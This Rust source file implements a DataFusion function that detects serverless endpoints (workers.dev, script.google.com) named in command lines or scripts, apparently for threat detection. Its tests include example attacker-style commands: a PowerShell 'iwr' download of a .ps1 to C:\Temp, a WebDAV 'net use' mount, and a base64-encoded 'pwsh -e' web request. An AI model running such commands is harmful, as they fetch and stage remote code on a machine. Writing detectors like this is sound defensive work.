//! `serverless_mention(text)`: which serverless endpoint a text names, by the catalogue.

use std::ops::Range;
use std::sync::{Arc, LazyLock};

use arrow_array::builder::StructBuilder;
use arrow_array::cast::AsArray;
use arrow_array::{Array, ArrayRef, StringArray};
use arrow_cast::cast;
use arrow_schema::DataType;
use coldtrail_catalogue::Catalogue;
use coldtrail_model::{Endpoint, Reach};
use datafusion::common::Result;
use datafusion::common::utils::take_function_args;
use datafusion::logical_expr::{
    ColumnarValue, Expr, ScalarFunctionArgs, ScalarUDF, ScalarUDFImpl, Signature, Volatility,
};

use super::encoded_texts::encoded_texts;
use super::serverless_endpoint::{append, fields};

/// More names than this are not looked at in one text.
const MOST_NAMES: usize = 4_096;

/// The endpoint that a text names, such as a command line or a script, or null where the catalogue
/// knows none.
///
/// Of several, the first whose tenant is known counts, else the first. Where none stands in plain
/// letters, what is encoded in the text is searched as well. The result has the parts of
/// [`serverless_endpoint`](super::serverless_endpoint).
pub fn serverless_mention(text: Expr) -> Expr {
    function().call(vec![text])
}

pub(super) fn function() -> Arc<ScalarUDF> {
    static FUNCTION: LazyLock<Arc<ScalarUDF>> =
        LazyLock::new(|| Arc::new(ScalarUDF::new_from_impl(ServerlessMention::new())));
    Arc::clone(&FUNCTION)
}

#[derive(Debug, PartialEq, Eq, Hash)]
struct ServerlessMention {
    signature: Signature,
}

impl ServerlessMention {
    fn new() -> Self {
        Self { signature: Signature::any(1, Volatility::Immutable) }
    }
}

impl ScalarUDFImpl for ServerlessMention {
    fn name(&self) -> &str {
        "serverless_mention"
    }

    fn signature(&self) -> &Signature {
        &self.signature
    }

    fn return_type(&self, _argument_types: &[DataType]) -> Result<DataType> {
        Ok(DataType::Struct(fields()))
    }

    fn invoke_with_args(&self, arguments: ScalarFunctionArgs) -> Result<ColumnarValue> {
        let rows = arguments.number_rows;
        let [text] = take_function_args(self.name(), &arguments.args)?;
        let texts = cast(&text.to_array(rows)?, &DataType::Utf8)?;
        Ok(ColumnarValue::Array(endpoints(texts.as_string::<i32>())))
    }
}

fn endpoints(texts: &StringArray) -> ArrayRef {
    let mut builder = StructBuilder::from_fields(fields(), texts.len());
    for text in texts {
        append(&mut builder, text.and_then(named).as_ref());
    }
    Arc::new(builder.finish())
}

fn named(text: &str) -> Option<Endpoint> {
    mentioned(text).or_else(|| encoded_texts(text).find_map(|text| mentioned(&text)))
}

fn mentioned(text: &str) -> Option<Endpoint> {
    let mut first = None;
    let mut from = 0;
    for _ in 0..MOST_NAMES {
        let Some(name) = next_name(text, from) else { break };
        let path = path_behind(text, name.end);
        let host = text.get(name.clone()).unwrap_or_default().trim_matches(['.', '-']);
        let written = text.get(path.clone()).filter(|path| !path.is_empty());
        let is_url = text.get(..name.start).is_some_and(|before| before.ends_with("://"));
        // What stands in the path of a URL names nothing; a path of a file may be anything.
        from = if is_url { path.end } else { name.end };
        match Catalogue::builtin().platform(host, written) {
            Some(endpoint) if endpoint.reach == Reach::Tenant => return Some(endpoint),
            found => first = first.or(found),
        }
    }
    first
}

/// The next run of letters that a host name may have, if there is a dot in it.
fn next_name(text: &str, from: usize) -> Option<Range<usize>> {
    let is_of_name = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
    let bytes = text.as_bytes();
    let mut start = from;
    loop {
        start += bytes.get(start..)?.iter().position(|byte| is_of_name(*byte))?;
        let rest = bytes.get(start..)?;
        let length = rest.iter().position(|byte| !is_of_name(*byte)).unwrap_or(rest.len());
        if rest.get(..length)?.contains(&b'.') {
            return Some(start..start + length);
        }
        start += length;
    }
}

/// The path that stands behind a host name and its port.
fn path_behind(text: &str, end: usize) -> Range<usize> {
    let rest = text.get(end..).unwrap_or_default();
    let port = rest.strip_prefix(':').map_or(0, |rest| {
        1 + rest.find(|letter: char| !letter.is_ascii_digit()).unwrap_or(rest.len())
    });
    let start = end + port;
    let rest = text.get(start..).unwrap_or_default();
    if !rest.starts_with('/') {
        return start..start;
    }
    let ends = |letter: char| {
        letter.is_whitespace() || letter.is_control() || "\"'`<>|^;,(){}?#".contains(letter)
    };
    start..start + rest.find(ends).unwrap_or(rest.len())
}

#[cfg(test)]
mod tests {
    use super::named as endpoint_named;

    fn named(text: &str) -> Option<String> {
        endpoint_named(text).map(|endpoint| endpoint.tenant.unwrap_or(endpoint.host))
    }

    #[test]
    fn names_stand_in_all_sorts_of_texts() {
        for text in [
            "curl https://sync.acme.workers.dev/x",
            "iwr 'HTTPS://Sync.Acme.Workers.dev:443/x?y=1' -o C:\\Temp\\a.ps1",
            "$u=\"sync.acme.workers.dev\"",
            r"net use \\sync.acme.workers.dev@SSL\DavWWWRoot",
            "nslookup sync.acme.workers.dev.",
            "a.exe script.google.com sync.acme.workers.dev",
            "pwsh -e aQB3AHIAIABzAHkAbgBjAC4AYQBjAG0AZQAuAHcAbwByAGsAZQByAHMALgBkAGUAdgA=",
        ] {
            assert_eq!(named(text).as_deref(), Some("sync.acme"), "{text}");
        }
        assert_eq!(
            named("open https://script.google.com/macros/s/AKfycbx0123456789/exec;").as_deref(),
            Some("AKfycbx0123456789")
        );
        assert_eq!(named("ping script.google.com").as_deref(), Some("script.google.com"));
    }

    #[test]
    fn other_texts_name_nothing() {
        for text in [
            "",
            "powershell.exe -File C:\\scripts\\backup.ps1",
            "https://sync.acme.workers.dev.example.com/",
            "https://www.example.com/mirror/sync.acme.workers.dev",
            "...",
            "ünïcode wörkers.dev é",
        ] {
            assert_eq!(named(text), None, "{text}");
        }
    }
}
